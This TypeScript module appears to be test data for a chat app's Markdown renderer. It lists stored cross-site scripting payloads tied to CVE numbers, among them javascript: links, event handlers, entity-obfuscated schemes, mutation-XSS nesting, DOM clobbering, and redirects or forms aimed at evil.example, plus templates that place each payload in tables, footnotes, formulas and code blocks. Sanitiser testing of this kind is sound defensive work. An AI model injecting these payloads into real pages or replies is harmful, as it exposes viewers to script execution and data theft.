/** An attack on a page that shows what others wrote, and the published advisory it replays. */
export interface Payload {
  readonly advisory: string;
  readonly text: string;
}

const SCRIPT = 'pwned=1';

/** Stored scripting through Markdown and markup, after advisories on other chats. */
export const PAYLOADS: readonly Payload[] = [
  { advisory: 'CVE-2025-46719', text: `<iframe src="javascript:${SCRIPT}"></iframe>` },
  { advisory: 'CVE-2025-46719', text: `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>` },
  { advisory: 'CVE-2025-64495', text: `<img src=x onerror="${SCRIPT}">` },
  { advisory: 'CVE-2025-64495', text: `<svg/onload=${SCRIPT}>` },
  { advisory: 'CVE-2026-44568', text: `[x](javascript:${SCRIPT})` },
  { advisory: 'CVE-2026-44568', text: `<a href="&#106;avascript:${SCRIPT}">x</a>` },
  { advisory: 'CVE-2026-45665', text: `[x](java&Tab;script:${SCRIPT})` },
  { advisory: 'CVE-2026-45665', text: `[x](JaVaScRiPt&colon;${SCRIPT})` },
  { advisory: 'CVE-2026-44721', text: `<details open ontoggle=${SCRIPT}>` },
  { advisory: 'CVE-2026-45303', text: `<script>${SCRIPT}</script>` },
  {
    advisory: 'CVE-2026-45303',
    text: `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  },
  { advisory: 'CVE-2026-26192', text: `<object data="data:text/html,<script>${SCRIPT}</script>">` },
  { advisory: 'CVE-2026-26193', text: `<embed src="//evil.example/x">` },
  { advisory: 'CVE-2026-41318', text: `"><img src=x onerror=${SCRIPT}>` },
  { advisory: 'CVE-2025-25296', text: `</code></pre><script>${SCRIPT}</script>` },
  { advisory: 'CVE-2026-54011', text: `click A href "javascript:${SCRIPT}"` },
  { advisory: 'data address', text: `[x](data:text/html;base64,PHNjcmlwdD4=)` },
  { advisory: 'form', text: `<form action=//evil.example><input name=x></form>` },
  { advisory: 'clobbering', text: `<a id=app name=app href=https://e.org>x</a>` },
  { advisory: 'meta', text: `<meta http-equiv=refresh content="0;url=//evil.example">` },
  { advisory: 'broken out of an attribute', text: `x" onmouseover="${SCRIPT}` },
  { advisory: 'broken out of an attribute', text: `x' autofocus onfocus='${SCRIPT}` },
  { advisory: 'TeX link', text: `\\href{javascript:${SCRIPT}}{x}` },
  { advisory: 'TeX markup', text: `\\htmlStyle{background:url(//evil.example)}{x}` },
];

/** The places of a reply that a payload can be written to. */
export const PLACES: Record<string, (payload: string) => string> = {
  block: (payload) => `Before.\n\n${payload}\n\nAfter.\n`,
  table: (payload) => `| a | ${payload} |\n| - | - |\n| ${payload} | b |\n\nAfter.\n`,
  footnote: (payload) => `See[^1].\n\n[^1]: ${payload}\n\nAfter.\n`,
  'footnote label': (payload) => `See[^${payload}].\n\n[^${payload}]: note\n\nAfter.\n`,
  'inline formula': (payload) => `So $${payload}$ and \\(${payload}\\).\n\nAfter.\n`,
  'formula block': (payload) => `$$\n${payload}\n$$\n\nAfter.\n`,
  'words in a formula': (payload) => `$\\text{${payload}}$\n\nAfter.\n`,
  'code language': (payload) => `\`\`\`${payload}\nx\n\`\`\`\n\nAfter.\n`,
  code: (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\nAfter.\n`,
  'link title': (payload) => `[x](https://e.org "${payload}")\n\nAfter.\n`,
  'link address': (payload) => `[x](<https://e.org/${payload}>)\n\nAfter.\n`,
  'alternative text': (payload) => `![${payload}](https://e.org/p.png)\n\nAfter.\n`,
};
